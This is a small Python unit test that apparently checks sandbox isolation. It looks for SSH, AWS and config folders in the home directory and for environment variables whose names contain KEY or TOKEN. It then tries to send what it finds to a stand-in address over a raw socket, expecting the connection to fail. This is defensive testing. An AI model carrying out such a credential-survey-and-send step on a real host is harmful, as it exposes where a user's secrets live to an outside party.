import os
import socket
import unittest
from pathlib import Path


class PhoneHome(unittest.TestCase):
    def test_sends_what_it_finds(self):
        found = [path for path in (".ssh", ".aws", ".config") if (Path.home() / path).exists()]
        found += [name for name in os.environ if "KEY" in name or "TOKEN" in name]
        with self.assertRaises(OSError):
            socket.create_connection(("203.0.113.9", 443), timeout=5).sendall(repr(found).encode())
        self.assertEqual(found, [])
